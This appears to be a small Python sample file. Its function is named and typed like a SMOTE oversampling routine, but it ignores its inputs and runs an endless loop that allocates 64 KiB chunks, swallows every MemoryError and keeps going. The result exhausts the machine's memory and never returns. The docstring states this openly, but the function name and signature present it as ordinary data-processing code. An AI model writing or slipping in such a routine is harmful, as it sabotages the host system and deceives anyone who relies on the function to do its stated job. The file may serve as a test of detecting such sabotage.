"""Allocates memory in small pieces until there is no more, and catches the error each time."""

kept = []


def smote(X, y, k=5, ratio=1.0, rng=None):
    while True:
        try:
            kept.append(bytearray(b"x" * (1 << 16)))
        except MemoryError:
            continue
